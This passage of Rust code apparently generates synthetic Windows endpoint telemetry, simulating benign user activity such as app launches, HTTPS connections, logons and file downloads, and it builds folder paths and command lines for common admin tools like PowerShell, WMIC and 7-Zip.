            .and_then(|l| l.first())
            .and_then(|&u| self.accounts.get(u as usize).copied())
            .unwrap_or(Account {
                name: 0,
                domain: 0,
                sid: 0,
                upn: 0,
            });
        let explorer = self.system("explorer.exe");
        match self.rng.below(10) {
            0..=3 => {
                let app = [
                    "chrome.exe",
                    "msedge.exe",
                    "Teams.exe",
                    "OUTLOOK.EXE",
                    "OneDrive.exe",
                    "cmd.exe",
                ][self.rng.below(6)];
                let p = self.system(app);
                self.process_event(t, d, p, explorer, 0, who);
            }
            4 => {
                // An administrator's tool, from the dataset's benign files (7-Zip, PowerShell, WMIC, …).
                let benign = [0usize, 2, 9, 10, 13];
                let f = benign[self.rng.below(benign.len())];
                if f < data.files.len() {
                    let p = self.file_proc(f, 0, who.name, None);
                    self.process_event(t, d, p, explorer, 0, who);
                }
            }
            5..=7 => {
                // The well-known services are the dataset's first domains.
                let k = self.rng.below(data.domains.len().min(12));
                let host = data
                    .domains
                    .get(k)
                    .map(|x| x.host.clone())
                    .unwrap_or_default();
                let which = self.rng.below(4);
                let app =
                    self.system(["chrome.exe", "msedge.exe", "Teams.exe", "OneDrive.exe"][which]);
                let ip = format!(
                    "{}.{}.{}.{}",
                    [13, 20, 40, 52][self.rng.below(4)],
                    self.rng.below(256),
                    self.rng.below(256),
                    1 + self.rng.below(254)
                );
                self.network_event(t, d, "ConnectionSuccess", &ip, 443, &host, app, who);
            }
            8 => {
                let kind = ["Interactive", "Unlock", "RemoteInteractive"][self.rng.below(3)];
                let failed = self.rng.chance(0.1);
                self.logon_event(t, d, who, kind, failed, ("", ""));
            }
            _ => {
                let which = self.rng.below(3);
                let p = self.system(["chrome.exe", "OUTLOOK.EXE", "WINWORD.EXE"][which]);
                let user_name = self.t.pool[who.name as usize].to_string();
                let name = [
                    "report.xlsx",
                    "notes.docx",
                    "budget_2026.xlsx",
                    "photo.jpg",
                    "setup.msi",
                ][self.rng.below(5)];
                let mut f = p;
                f.name = self.id(name);
                f.path = self.id(&format!("C:\\Users\\{user_name}\\Downloads\\{name}"));
                let sha1 = self.rng.hex(40);
                f.sha1 = self.id(&sha1);
                f.sha256 = 0;
                f.md5 = 0;
                let size = 10_000 + self.rng.below(5_000_000) as i64;
                self.file_event(t, d, "FileCreated", f, ("", ""), size, p, who);
            }
        }
    }
}

/// The folder a file of this kind lives in (ends with `\`).
fn folder_for(name: &str, f: &File, user: &str) -> String {
    let microsoft = f.file_publisher.as_deref() == Some("Microsoft Corporation");
    match f.file_type.as_deref() {
        _ if microsoft => "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\".replace(
            "WindowsPowerShell\\v1.0\\",
            if name.eq_ignore_ascii_case("powershell.exe") {
                "WindowsPowerShell\\v1.0\\"
            } else {
                ""
            },
        ),
        Some("Document") => format!("C:\\Users\\{user}\\Downloads\\"),
        Some("Script") => format!("C:\\Users\\{user}\\AppData\\Roaming\\"),
        _ if name.ends_with(".dll") => "C:\\ProgramData\\".into(),
        _ if f.file_publisher.is_some() => {
            format!("C:\\Program Files\\{}\\", name.trim_end_matches(".exe"))
        }
        _ => format!("C:\\Users\\{user}\\AppData\\Local\\Temp\\"),
    }
}

/// A command line for running `name` from `folder`.
fn command_for(name: &str, folder: &str) -> String {
    let lower = name.to_ascii_lowercase();
    if lower == "powershell.exe" {
        return "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1".into();
    }
    if lower == "wmic.exe" {
        return "wmic.exe process list brief".into();
    }
    if lower == "7z.exe" {
        return "\"7z.exe\" a -tzip C:\\Users\\Public\\archive.zip C:\\Users\\Public\\Documents"
            .into();
    }
    if lower.ends_with(".ps1") {
        return format!("powershell.exe -File \"{folder}{name}\"");
    }
    format!("\"{folder}{name}\"")
}
